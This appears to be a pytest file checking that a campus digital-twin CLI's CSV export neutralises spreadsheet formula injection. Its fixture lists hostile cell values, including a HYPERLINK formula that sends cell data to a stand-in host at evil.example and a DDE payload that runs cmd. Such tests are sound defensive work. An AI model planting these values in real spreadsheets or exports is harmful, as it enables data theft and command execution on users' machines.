"""`campus-twin export` against a real database: spreadsheet formula injection is neutralised."""

from __future__ import annotations

import csv
from datetime import UTC, datetime, timedelta

from click.testing import CliRunner
from shapely.geometry import box

from twin.cli import main
from twin.database import connection
from twin.domain import Building, Device, Room, Site, Storey, TwinModel
from twin.metrics import BY_NAME
from twin.storage.model import device_keys, save_model
from twin.storage.readings import ReadingWriter

#: Room names and device ids a spreadsheet would run as formulas (OWASP "CSV injection").
HOSTILE_ROOMS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "\tTab", "\rCR")
HOSTILE_DEVICES = ("@SUM(1)", "-2", "=1")


def _twin() -> TwinModel:
    rooms = tuple(Room(f"R{i}", "S1", name, use="classroom", footprint=box(i * 10, 0, i * 10 + 9, 7))
                  for i, name in enumerate(HOSTILE_ROOMS + ("Room -5",)))
    devices = tuple(Device(dev, f"G{i}", "env_sensor", "IfcSensor", room_global_id=f"R{i}", storey_global_id="S1",
                           mapping="containment", x=i * 10 + 1, y=1, z=1)
                    for i, dev in enumerate(HOSTILE_DEVICES + ("ENV-A", "ENV-B")))
    return TwinModel(Site("x1", "Export school", "headquarters", 22.5, 114.0), (Building("B1", "Main"),),
                     (Storey("S1", "B1", "1F", 0.0),), rooms, devices, "IFC4")


def test_export_neutralises_formula_cells_and_leaves_numbers_alone(db_url: str, tmp_path) -> None:
    model = _twin()
    base = datetime(2026, 11, 23, 8, 0, tzinfo=UTC)
    temperature = BY_NAME["temperature"].metric_id
    with connection(db_url) as conn:
        save_model(conn, model)
        keys = device_keys(conn)
        ReadingWriter(conn).write(
            [(base + timedelta(minutes=i), keys["x1", d.device_id], temperature, -5.0 - i)
             for i, d in enumerate(model.devices)])
    out = tmp_path / "x.csv"
    result = CliRunner().invoke(main, ["--database-url", db_url, "export", "--site", "x1", "--out", str(out)])
    assert result.exit_code == 0, result.output
    with out.open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(model.devices)
    by_device = {r["device"]: r for r in rows}
    rooms = {d.device_id: next(r.name for r in model.rooms if r.global_id == d.room_global_id) for d in model.devices}
    for device in HOSTILE_DEVICES:
        assert "'" + device in by_device, sorted(by_device)
    for row in rows:
        device = row["device"].removeprefix("'")
        room = rooms[device]
        expected_room = "'" + room if room[0] in "=+-@\t\r" else room
        assert row["room"] == expected_room, (row, room)
        assert row["site"] == "x1" and row["metric"] == "temperature" and row["unit"] == "°C"
    assert [r["value"] for r in rows] == ["-5", "-6", "-7", "-8", "-9"]  # numbers as PostgreSQL prints them
    assert by_device["ENV-B"]["room"] == "Room -5"  # a minus inside a name is harmless
    assert by_device["'-2"]["value"] == "-6" and float(by_device["'-2"]["value"]) == -6.0
